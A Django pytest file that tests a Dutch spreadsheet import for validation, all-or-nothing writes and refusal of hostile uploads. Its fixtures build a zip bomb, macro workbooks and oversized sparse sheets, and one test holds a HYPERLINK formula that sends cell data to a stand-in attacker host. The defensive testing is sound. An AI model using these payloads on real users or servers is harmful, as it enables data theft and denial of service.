"""Spreadsheet import: the templates round-trip, every row is checked before anything is
written, confirming writes all rows or none, a second import of the same file adds nothing, and
hostile files are refused in Dutch without a 500 or a write."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from imports.models import ImportRun
from monitoring.models import Meeting, Pilot, ProgressUpdate, RouteStep, Signal
from regions.models import Handover, Region
from specialists.models import Deployment
from tests.conftest import FOREIGN_REGION, OWN_REGION
from tests.factories import RouteStepFactory

pytestmark = pytest.mark.django_db

# One valid row per kind, as a person fills the template in: labels from its drop-downs,
# Dutch dates.
ROWS = {
    "processtappen": {
        "Volgorde": 3,
        "Stap": "Raadsvoorstel schrijven",
        "Betrokken partijen": "Colleges, SOB",
        "Benodigde expertise": "Governance; Financiën",
        "Geplande datum": "15-11-2026",
        "Status": "Gepland",
    },
    "bijeenkomsten": {
        "Soort": "Kennisbijeenkomst",
        "Titel": "Kennissessie loonkostensubsidie",
        "Datum": "12-10-2026",
        "Verslag": "Afgesproken: de SOB levert in januari de cijfers aan.",
    },
    "inzetaanvragen": {"Benodigde expertise": "Juridisch", "Vraag": "Toets de GR-regeling."},
    "pilots": {
        "Soort": "Pilot",
        "Titel": "Pilot beschut werk",
        "Doel": "Meer plekken beschut werk.",
        "Startdatum": "01-09-2026",
        "Opgeleverd": "nee",
    },
    "signalen": {
        "Signaal": "Financiering onduidelijk",
        "Omschrijving": "De regeling na 2026 is niet bekend.",
        "Gericht aan": "SZW",
        "Ingebracht op": "20-11-2026",
        "Status": "Open",
    },
    "voortgang": {
        "Jaar": 2026,
        "Kwartaal": "Q4",
        "Status": "Aandacht nodig",
        "Voortgang": "Besluitvorming uitgesteld naar januari.",
    },
}
MODELS = {
    "processtappen": RouteStep,
    "bijeenkomsten": Meeting,
    "inzetaanvragen": Deployment,
    "pilots": Pilot,
    "signalen": Signal,
    "voortgang": ProgressUpdate,
}


def _fill(template: bytes, rows: list[dict]) -> bytes:
    """The template with these rows on its data sheet, under its own headers."""
    book = load_workbook(io.BytesIO(template))
    sheet = book["Gegevens"]
    headers = [cell.value for cell in sheet[1]]
    for number, values in enumerate(rows, start=2):
        unknown = set(values) - set(headers)
        assert not unknown, f"not in the template: {unknown}"
        for column, header in enumerate(headers, start=1):
            sheet.cell(row=number, column=column, value=values.get(header))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(client, url, kind, content, name="bestand.xlsx"):
    upload = io.BytesIO(content)
    upload.name = name
    response = client.post(url, {"kind": kind, "file": upload})
    return response


def _run_of(response) -> ImportRun:
    assert response.status_code == 302, response.content[:500]
    return ImportRun.objects.get(pk=response.url.rstrip("/").split("/")[-1])


@pytest.fixture
def alice(client, personas):
    client.force_login(personas.alice)
    return personas.alice


@pytest.mark.parametrize("kind", list(ROWS))
def test_a_filled_template_imports_once_and_a_second_import_adds_nothing(client, alice, kind):
    region = Region.objects.get(code=OWN_REGION)
    page = reverse("imports:region", args=[OWN_REGION])
    template = client.get(reverse("imports:region_template", args=[OWN_REGION, kind]))
    assert template.status_code == 200
    assert template["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(template.content))
    assert book.sheetnames == ["Gegevens", "Toelichting", "Keuzelijsten"]
    assert book["Keuzelijsten"].sheet_state == "hidden"
    explained = [row[0] for row in book["Toelichting"].iter_rows(min_row=6, values_only=True)]
    assert explained == [c.value for c in book["Gegevens"][1]]  # every column explained
    # Every kind has a column with choices: a drop-down reading its list from the hidden sheet.
    validations = book["Gegevens"].data_validations.dataValidation
    assert validations
    assert all(v.type == "list" and v.formula1.startswith("'Keuzelijsten'!") for v in validations)
    before = MODELS[kind].objects.filter(region=region).count()

    content = _fill(template.content, [ROWS[kind]])
    run = _run_of(_upload(client, page, kind, content))
    assert run.counts == {"add": 1, "change": 0, "same": 0, "error": 0}, run.outcome
    assert MODELS[kind].objects.filter(region=region).count() == before  # nothing yet
    preview = client.get(run.get_absolute_url())
    assert "Bevestigen" in preview.content.decode()

    assert client.post(reverse("imports:confirm", args=[run.pk])).status_code == 302
    run.refresh_from_db()
    assert run.applied_at is not None
    assert run.outcome["applied"] == {"added": 1, "changed": 0}
    assert MODELS[kind].objects.filter(region=region).count() == before + 1

    again = _run_of(_upload(client, page, kind, content))
    assert again.counts == {"add": 0, "change": 0, "same": 1, "error": 0}
    assert not again.can_confirm
    assert client.post(reverse("imports:confirm", args=[again.pk])).status_code == 302
    assert MODELS[kind].objects.filter(region=region).count() == before + 1


def test_the_imported_values_are_the_ones_in_the_file(client, alice):
    template = client.get(reverse("imports:region_template", args=[OWN_REGION, "processtappen"]))
    content = _fill(template.content, [ROWS["processtappen"]])
    run = _run_of(
        _upload(client, reverse("imports:region", args=[OWN_REGION]), "processtappen", content)
    )
    client.post(reverse("imports:confirm", args=[run.pk]))
    step = RouteStep.objects.get(title="Raadsvoorstel schrijven")
    assert step.region.code == OWN_REGION
    assert (step.order, step.parties, step.status) == (3, "Colleges, SOB", "gepland")
    assert step.expertise == ["governance", "financien"]
    assert step.planned_date.isoformat() == "2026-11-15"
    assert step.updated_by == alice


def test_errors_are_shown_at_their_row_and_column_and_nothing_is_written(client, alice):
    template = client.get(reverse("imports:region_template", args=[OWN_REGION, "processtappen"]))
    rows = [
        ROWS["processtappen"],
        {"Stap": "", "Geplande datum": "15-11-2026"},
        {"Stap": "Te laat", "Geplande datum": "15-02-2027", "Status": "Gepland"},
        {"Stap": "Onbekend", "Geplande datum": "31-13-2026", "Benodigde expertise": "Koken"},
        {"Stap": "Afgerond zonder datum", "Geplande datum": "01-10-2026", "Status": "Afgerond"},
        {"Stap": "Raadsvoorstel schrijven", "Geplande datum": "16-11-2026"},
    ]
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "processtappen",
            _fill(template.content, rows),
        )
    )
    errors = {row["number"]: row["errors"] for row in run.outcome["rows"] if row["errors"]}
    assert errors[3] == [["Stap", "Dit veld is verplicht."]]
    assert errors[4][0][0] == "Geplande datum" and "31 december 2026" in errors[4][0][1]
    assert [column for column, _message in errors[5]] == ["Benodigde expertise", "Geplande datum"]
    assert "„Koken” is geen keuze van deze kolom" in errors[5][0][1]
    assert errors[6] == [["Werkelijke datum", "Vul in wanneer de stap is afgerond."]]
    assert errors[7][0] == [
        "Stap",
        "Rij 2 heeft al deze waarden; een record wordt één keer geïmporteerd.",
    ]
    assert run.counts == {"add": 1, "change": 0, "same": 0, "error": 5}
    assert not run.can_confirm

    page = client.get(run.get_absolute_url()).content.decode()
    assert "Er is niets opgeslagen" in page
    assert "Bevestigen" not in page
    client.post(reverse("imports:confirm", args=[run.pk]))
    assert not RouteStep.objects.filter(title="Raadsvoorstel schrijven").exists()


def test_a_row_for_a_stored_record_changes_it_and_its_history_names_the_import(client, alice):
    step = RouteStepFactory(
        region=Region.objects.get(code=OWN_REGION), title="Scenario's uitwerken", order=4
    )
    content = b"Stap;Geplande datum;Status\nscenario's  uitwerken;1-12-2026;Lopend\n"
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "processtappen",
            content,
            "stappen.csv",
        )
    )
    [row] = run.outcome["rows"]
    assert (row["action"], row["pk"]) == ("change", step.pk)
    assert row["changes"] == [
        ["Geplande datum", "1 oktober 2026", "1 december 2026"],
        ["Status", "Gepland", "Lopend"],
    ]
    client.post(reverse("imports:confirm", args=[run.pk]))
    step.refresh_from_db()
    assert (step.status, step.version, step.order) == ("lopend", 2, 4)  # order was not in the file

    history = client.get(reverse("regions:history", args=[OWN_REGION])).content.decode()
    assert "Alice Adviseur (import van stappen.csv)" in history


def test_a_record_changed_after_the_preview_stops_the_whole_import(client, alice, personas):
    step = RouteStepFactory(region=Region.objects.get(code=OWN_REGION), title="Bestaande stap")
    content = b"Stap;Geplande datum\nBestaande stap;2-12-2026\nNieuwe stap;3-12-2026\n"
    run = _run_of(
        _upload(
            client, reverse("imports:region", args=[OWN_REGION]), "processtappen", content, "s.csv"
        )
    )
    assert run.counts["change"] == 1 and run.counts["add"] == 1
    RouteStep.objects.filter(pk=step.pk).update(version=2, parties="Door een ander gewijzigd")

    client.post(reverse("imports:confirm", args=[run.pk]))
    run.refresh_from_db()
    assert run.applied_at is None and run.outcome["stale"]
    assert not RouteStep.objects.filter(title="Nieuwe stap").exists()
    step.refresh_from_db()
    assert step.planned_date.isoformat() != "2026-12-02"
    assert (
        "records gewijzigd sinds u het voorbeeld zag"
        in client.get(run.get_absolute_url()).content.decode()
    )
    # The new preview can be confirmed: it is checked against what is stored now.
    assert run.can_confirm
    client.post(reverse("imports:confirm", args=[run.pk]))
    step.refresh_from_db()
    assert step.planned_date.isoformat() == "2026-12-02"
    assert step.parties == "Door een ander gewijzigd"


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8-sig", ";"), ("utf-8", ";"), ("cp1252", ";"), ("utf-8", ",")],
)
def test_csv_as_dutch_spreadsheets_write_it(client, alice, encoding, delimiter):
    lines = [
        ["Stap", "Benodigde expertise", "Geplande datum", "Betrokken partijen"],
        ["Financiën op orde", "Financiën", "30-11-2026", "Gemeente Aa en Hunze, SOB"],
    ]
    text = "\r\n".join(
        delimiter.join(f'"{c}"' if delimiter in c else c for c in line) for line in lines
    )
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "processtappen",
            text.encode(encoding),
            "stappen.csv",
        )
    )
    [row] = run.outcome["rows"]
    assert row["action"] == "add", row["errors"]
    assert row["data"]["title"] == "Financiën op orde"
    assert row["data"]["expertise"] == ["financien"]
    assert row["data"]["parties"] == "Gemeente Aa en Hunze, SOB"


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def _workbook(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _sparse(cells: dict[str, str], dimension: str | None = None) -> bytes:
    """A workbook with only these cells (openpyxl writes just them, and declares the sheet as
    large as they span), its declared dimension replaced by `dimension` if given."""
    book = Workbook()
    for coordinate, value in cells.items():
        book.active[coordinate] = value
    out = io.BytesIO()
    book.save(out)
    if dimension is None:
        return out.getvalue()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    sheet = entries["xl/worksheets/sheet1.xml"].decode()
    entries["xl/worksheets/sheet1.xml"] = re.sub(
        r'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"', sheet, count=1
    ).encode()
    return _zip(entries)


def _with_macro(content: bytes) -> bytes:
    """An .xlsx with a VBA project added, as Excel saves a macro workbook."""
    source = zipfile.ZipFile(io.BytesIO(content))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    entries["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 512
    return _zip(entries)


HOSTILE = {
    "macro.xlsm": (lambda: _workbook([["Stap", "Geplande datum"], ["X", "1-12-2026"]]), "macro"),
    "hernoemd.xlsx": (
        lambda: _with_macro(_workbook([["Stap", "Geplande datum"], ["X", "1-12-2026"]])),
        "macro",
    ),
    "bom.xlsx": (
        lambda: _zip(
            {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"\0" * 200_000_000}
        ),
        "compressiebom",
    ),
    "groot.csv": (
        lambda: b"Stap;Geplande datum\n" + b"x;1-12-2026\n" * 4_800_000,
        "de limiet is 10 MB",
    ),
    "rijen.csv": (
        lambda: b"Stap;Geplande datum\n" + b"x;1-12-2026\n" * 10_001,
        "meer dan 10.000 rijen",
    ),
    "stiekem.csv": (lambda: b"%PDF-1.7\n" + b"\x00" * 100, "geen Excel-werkmap"),
    "binair.xlsx": (lambda: b"PK\x03\x04" + b"\x00\xff" * 300, "kan niet worden gelezen"),
    "oud.xls": (lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "oud Excel-formaat"),
    "vreemd.csv": (
        lambda: "Stap;Geplande datum\nÿ;1-12-2026\n".encode()[:-9] + b"\x81\x8d;x\n",
        "kan niet worden gelezen",
    ),
    # Sparse sheets: a few kilobytes that openpyxl would walk as ~10^10 empty cells.
    "breed.xlsx": (
        lambda: _sparse({"A1": "Stap", "B1": "Geplande datum", "A2": "X", "XFD2": "x"}),
        "waarden na kolom IV; er worden hoogstens 256 kolommen gelezen",
    ),
    "ver.xlsx": (
        lambda: _sparse({"A1": "Stap", "B1": "Geplande datum", "A2": "X", "A1048576": "x"}),
        "loopt door na rij 20.001 (lege rijen tellen mee)",
    ),
    "hoeken.xlsx": (
        lambda: _sparse({"A1": "Stap", "XFD1048576": "x"}),
        "loopt door na rij 20.001 (lege rijen tellen mee)",
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_file_is_refused_in_dutch_and_writes_nothing(
    client, alice, name, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    make, expected = HOSTILE[name]
    steps = RouteStep.objects.count()
    response = _upload(
        client, reverse("imports:region", args=[OWN_REGION]), "processtappen", make(), name
    )
    run = _run_of(response)
    page = client.get(run.get_absolute_url())
    assert page.status_code == 200
    text = page.content.decode()
    assert "Dit bestand kan niet worden geïmporteerd; er is niets opgeslagen." in text
    assert expected in run.refused, run.refused
    assert not run.can_confirm
    client.post(reverse("imports:confirm", args=[run.pk]))
    assert RouteStep.objects.count() == steps
    # The refused file is not kept: its run says what and why, without the file.
    assert not run.file
    assert [p for p in (tmp_path / "imports").rglob("*") if p.is_file()] == []


def test_an_accepted_file_is_kept_under_the_imports_folder(client, alice, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    content = b"Stap;Geplande datum\nBewaard;1-12-2026\n"
    run = _run_of(
        _upload(
            client, reverse("imports:region", args=[OWN_REGION]), "processtappen", content, "s.csv"
        )
    )
    assert run.counts["add"] == 1
    [stored] = [p for p in (tmp_path / "imports").rglob("*") if p.is_file()]
    assert stored.read_bytes() == content


def test_an_empty_file_is_refused_next_to_the_field(client, alice):
    response = _upload(
        client, reverse("imports:region", args=[OWN_REGION]), "processtappen", b"", "leeg.csv"
    )
    assert response.status_code == 400
    assert "Het verstuurde bestand is leeg." in response.content.decode()
    assert not ImportRun.objects.exists()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_formula_is_read_as_text_never_evaluated_and_never_written(client, alice, suffix):
    formula = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'
    if suffix == ".xlsx":
        content = _workbook([["Stap", "Geplande datum"], [formula, "1-12-2026"]])
    else:
        content = f"Stap;Geplande datum\n{formula.replace(';', ',')};1-12-2026\n".encode()
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "processtappen",
            content,
            "f" + suffix,
        )
    )
    [row] = run.outcome["rows"]
    assert row["action"] == "error"
    [(column, message)] = row["errors"]
    assert column == "Stap"
    assert "formule" in message and "=HYPERLINK(" in message
    client.post(reverse("imports:confirm", args=[run.pk]))
    assert not RouteStep.objects.filter(title__startswith="=").exists()


def test_a_national_import_checks_each_rows_region(client, alice):
    template = client.get(reverse("imports:template", args=["processtappen"]))
    headers = [c.value for c in load_workbook(io.BytesIO(template.content))["Gegevens"][1]]
    assert headers[0] == "Regio"
    own = Region.objects.get(code=OWN_REGION)
    rows = [
        {
            "Regio": f"{own.name} ({own.code})",
            "Stap": "Landelijk ingelezen",
            "Geplande datum": "1-12-2026",
        },
        {"Regio": FOREIGN_REGION, "Stap": "Niet van mij", "Geplande datum": "1-12-2026"},
        {"Regio": "Atlantis", "Stap": "Nergens", "Geplande datum": "1-12-2026"},
    ]
    run = _run_of(
        _upload(client, reverse("imports:national"), "processtappen", _fill(template.content, rows))
    )
    actions = {row["number"]: (row["action"], row["errors"]) for row in run.outcome["rows"]}
    assert actions[2] == ("add", [])
    foreign = Region.objects.get(code=FOREIGN_REGION)
    assert actions[3] == (
        "error",
        [["Regio", f"U kunt de gegevens van {foreign.name} niet wijzigen."]],
    )
    assert actions[4][1][0][1].startswith("„Atlantis” is geen arbeidsmarktregio")


def test_programme_management_imports_the_portfolios_as_handovers(client, personas):
    client.force_login(personas.pm)
    own, foreign = Region.objects.get(code=OWN_REGION), Region.objects.get(code=FOREIGN_REGION)
    template = client.get(reverse("imports:template", args=["portefeuilles"]))
    rows = [
        {"Regio": f"{own.name} ({own.code})", "Regioadviseur": "bob"},
        {"Regio": f"{foreign.name} ({foreign.code})", "Regioadviseur": "bob"},
    ]
    run = _run_of(
        _upload(client, reverse("imports:national"), "portefeuilles", _fill(template.content, rows))
    )
    assert run.counts == {"add": 0, "change": 1, "same": 1, "error": 0}, run.outcome
    [change] = [row for row in run.outcome["rows"] if row["action"] == "change"]
    assert change["changes"] == [["Regioadviseur", "Alice Adviseur", "Bob Bakker"]]
    client.post(reverse("imports:confirm", args=[run.pk]))
    own.refresh_from_db()
    assert own.adviser == personas.bob
    handover = Handover.objects.get(region=own)
    assert (handover.from_adviser, handover.by) == (personas.alice, personas.pm)
    assert handover.note == "Import van bestand.xlsx"


def test_a_progress_update_is_imported_with_the_importer_as_its_author(client, alice):
    template = client.get(reverse("imports:region_template", args=[OWN_REGION, "voortgang"]))
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "voortgang",
            _fill(template.content, [ROWS["voortgang"]]),
        )
    )
    client.post(reverse("imports:confirm", args=[run.pk]))
    update = ProgressUpdate.objects.get(region__code=OWN_REGION, year=2026, quarter=4)
    assert (update.author, update.status) == (alice, "aandacht")


def test_someone_elses_import_is_not_found(client, alice, personas):
    content = b"Stap;Geplande datum\nStap;1-12-2026\n"
    run = _run_of(
        _upload(
            client, reverse("imports:region", args=[OWN_REGION]), "processtappen", content, "s.csv"
        )
    )
    client.force_login(personas.bob)
    assert client.get(run.get_absolute_url()).status_code == 404
    assert client.post(reverse("imports:confirm", args=[run.pk])).status_code == 404
    assert not RouteStep.objects.filter(title="Stap").exists()


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", "A1"])
def test_the_declared_size_of_a_sheet_is_not_trusted(client, alice, dimension):
    """A sheet is read as its cells are, whatever size it declares: a huge one is not padded
    out, a small one (some programs write "A1") does not cut rows off."""
    content = _sparse(
        {"A1": "Stap", "B1": "Geplande datum", "A2": "Eerste", "B2": "1-12-2026", "A3": "Tweede"},
        dimension=dimension,
    )
    assert f'<dimension ref="{dimension}"'.encode() in zipfile.ZipFile(io.BytesIO(content)).read(
        "xl/worksheets/sheet1.xml"
    )
    run = _run_of(
        _upload(client, reverse("imports:region", args=[OWN_REGION]), "processtappen", content)
    )
    assert not run.refused
    assert [(row["number"], row["data"]["title"]) for row in run.outcome["rows"]] == [
        (2, "Eerste"),
        (3, "Tweede"),
    ]


def _drop_down(book, header: str) -> list:
    """The cells the drop-down of the data sheet's column `header` offers, read from the hidden
    sheet its list refers to, as Excel reads them."""
    data = book["Gegevens"]
    [letter] = [cell.column_letter for cell in data[1] if cell.value == header]
    [validation] = [v for v in data.data_validations.dataValidation if f"{letter}2" in v.sqref]
    assert validation.type == "list"
    sheet, cells = validation.formula1.rsplit("!", 1)
    assert sheet == "'Keuzelijsten'"
    return [cell for (cell,) in book["Keuzelijsten"][cells.replace("$", "")]]


def _formulas(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_a_route_step_that_looks_like_a_formula_is_text_in_the_template_and_imports_back(
    client, alice
):
    region = Region.objects.get(code=OWN_REGION)
    title = '=HYPERLINK("http://x")'
    step = RouteStepFactory(region=region, title=title)
    template = client.get(reverse("imports:region_template", args=[OWN_REGION, "inzetaanvragen"]))
    book = load_workbook(io.BytesIO(template.content))
    assert _formulas(book) == []
    offered = _drop_down(book, "Processtap")
    [picked] = [cell for cell in offered if title in cell.value]
    assert (picked.data_type, picked.value) == ("s", "'" + title)  # safe_cell's spelling

    # The person picks it from the drop-down: the cell gets the list's text.
    row = {"Benodigde expertise": "Juridisch", "Processtap": picked.value, "Vraag": "Hulp?"}
    run = _run_of(
        _upload(
            client,
            reverse("imports:region", args=[OWN_REGION]),
            "inzetaanvragen",
            _fill(template.content, [row]),
        )
    )
    assert run.counts == {"add": 1, "change": 0, "same": 0, "error": 0}, run.outcome
    assert run.outcome["rows"][0]["data"]["route_step"] == title
    client.post(reverse("imports:confirm", args=[run.pk]))
    deployment = Deployment.objects.get(region=region, request_note="Hulp?")
    assert deployment.route_step == step


def test_names_that_look_like_formulas_are_text_in_the_portfolio_template(client, personas):
    client.force_login(personas.pm)
    own = Region.objects.get(code=OWN_REGION)
    Region.objects.filter(pk=own.pk).update(name="@SUM(1+1)")
    personas.bob.first_name = "=2+5"
    personas.bob.save()
    template = client.get(reverse("imports:template", args=["portefeuilles"]))
    book = load_workbook(io.BytesIO(template.content))
    assert _formulas(book) == []
    [region] = [c.value for c in _drop_down(book, "Regio") if "SUM" in c.value]
    [adviser] = [c.value for c in _drop_down(book, "Regioadviseur") if "=2+5" in c.value]
    assert (region, adviser) == (f"'@SUM(1+1) ({OWN_REGION})", "'=2+5 Bakker")

    rows = [{"Regio": region, "Regioadviseur": adviser}]
    run = _run_of(
        _upload(client, reverse("imports:national"), "portefeuilles", _fill(template.content, rows))
    )
    assert run.counts == {"add": 0, "change": 1, "same": 0, "error": 0}, run.outcome
    client.post(reverse("imports:confirm", args=[run.pk]))
    own.refresh_from_db()
    assert own.adviser == personas.bob
